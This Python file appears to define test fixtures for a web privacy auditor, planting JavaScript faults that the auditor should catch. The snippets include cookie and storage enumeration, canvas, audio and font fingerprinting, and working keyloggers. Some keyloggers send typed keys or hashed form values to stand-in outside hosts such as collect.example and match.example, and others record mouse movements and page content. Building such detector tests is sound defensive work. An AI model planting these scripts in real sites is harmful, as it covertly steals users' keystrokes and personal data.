"""Faults of scripts: 4.7 (looking at what else the browser holds) and 6.1 (taking information by stealth)."""

from __future__ import annotations

from avowal.auditor.faults.planting import Fault, script, with_field

_CANVAS = """
const board = document.createElement("canvas"); board.width = 240; board.height = 60;
const pen = board.getContext("2d"); pen.font = "18px Arial"; pen.fillStyle = "#f60"; pen.fillRect(10, 10, 60, 20);
pen.fillText("Cwm fjordbank glyphs vext quiz", 2, 15); window.deviceMark = board.toDataURL().length;
"""
_CANVAS_SHAPES = """
const board = document.createElement("canvas"); board.width = 120; board.height = 120;
const pen = board.getContext("2d"); pen.arc(50, 50, 40, 0, 6); pen.fill();
window.deviceMark = pen.getImageData(0, 0, 120, 120).data[9];
"""
_AUDIO = """
const sound = new OfflineAudioContext(1, 4410, 44100); const wave = sound.createOscillator();
wave.connect(sound.createDynamicsCompressor()).connect(sound.destination); wave.start(); sound.startRendering();
"""
_FONTS = """
const pen = document.createElement("canvas").getContext("2d");
for (let index = 0; index < 60; index += 1) { pen.font = `16px "Font ${index}", serif`; pen.measureText("mmmmlli"); }
"""
_KEYS_TO_OWN_HOST = """
let typed = ""; addEventListener("keydown", (event) => { typed += event.key; });
addEventListener("pagehide", () => navigator.sendBeacon("/planted/keys", typed));
"""
_KEYS_TO_OTHER_HOST = """
let typed = ""; let later = 0;
const send = () => { new Image().src = "https://collect.example/k?d=" + encodeURIComponent(btoa(typed)); };
document.addEventListener("keyup", (event) => {
  typed += event.key; clearTimeout(later); later = setTimeout(send, 30000); });
"""
_KEY_BY_KEY = """
document.onkeypress = (event) => fetch("https://single.example/key", { method: "POST", mode: "no-cors",
  body: JSON.stringify({ k: event.key, t: Math.round(event.timeStamp) }), keepalive: true }).catch(() => {});
"""
_FIELD_HASHED = """
for (const field of document.querySelectorAll("input")) field.addEventListener("blur", async () => {
  if (!field.value) return;
  const value = new TextEncoder().encode(field.value.trim().toLowerCase());
  let mark = Array.from(value).reduce((sum, byte) => sum + byte.toString(16).padStart(2, "0"), "");
  if (crypto.subtle) mark = Array.from(new Uint8Array(await crypto.subtle.digest("SHA-1", value)))
    .map((byte) => byte.toString(16).padStart(2, "0")).join("");
  new Image().src = "https://match.example/m?em=" + mark;
});
"""
_MOUSE = """
const path = []; addEventListener("mousemove", (event) => path.push({ x: event.clientX, y: event.clientY }));
setTimeout(() => fetch("/planted/replay", { method: "POST", body: JSON.stringify({ path }) }), 30000);
"""
_PAGE_CONTENT = """
addEventListener("load", () => fetch("/planted/replay", { method: "POST", body: document.documentElement.outerHTML }));
"""

SCRIPT_FAULTS: tuple[Fault, ...] = (
    Fault(
        "4.7",
        "cookie-enumeration",
        "/planted/jar.js",
        script("jar", 'window.jar = document.cookie.split(";").map((one) => one.trim());'),
    ),
    Fault("4.7", "storage-keys", "/planted/keys.js", script("keys", "window.held = Object.keys(localStorage);")),
    Fault(
        "4.7",
        "storage-loop",
        "/planted/loop.js",
        script("loop", "window.held = []; for (let at = 0; at < 3; at += 1) window.held.push(localStorage.key(at));"),
    ),
    Fault(
        "4.7",
        "storage-for-in",
        "/planted/forin.js",
        script("forin", "window.held = []; for (const key in sessionStorage) window.held.push(key);"),
    ),
    Fault(
        "4.7",
        "databases",
        "/planted/databases.js",
        script("databases", "indexedDB.databases().then((all) => { window.held = all.length; });"),
    ),
    Fault("6.1", "canvas", "/planted/canvas.js", script("canvas", _CANVAS)),
    Fault("6.1", "canvas-shapes", "/planted/shapes.js", script("shapes", _CANVAS_SHAPES)),
    Fault("6.1", "audio", "/planted/audio.js", script("audio", _AUDIO)),
    Fault("6.1", "fonts", "/planted/fonts.js", script("fonts", _FONTS)),
    Fault(
        "6.1",
        "network-addresses",
        "/planted/addresses.js",
        script("addresses", "new RTCPeerConnection({ iceServers: [] }).createOffer();"),
    ),
    Fault("6.1", "keys-to-own-host", "/planted/keys carries", script("logger", _KEYS_TO_OWN_HOST)),
    Fault("6.1", "keys-to-other-host", "collect.example/k carries", script("sender", _KEYS_TO_OTHER_HOST)),
    Fault("6.1", "key-by-key", "single.example/key carries", script("single", _KEY_BY_KEY)),
    Fault("6.1", "field-hashed", "match.example/m carries", with_field(script("match", _FIELD_HASHED))),
    Fault("6.1", "mouse-replay", "positions the mouse took", script("mouse", _MOUSE)),
    Fault("6.1", "content-replay", "texts or markup", script("content", _PAGE_CONTENT)),
)
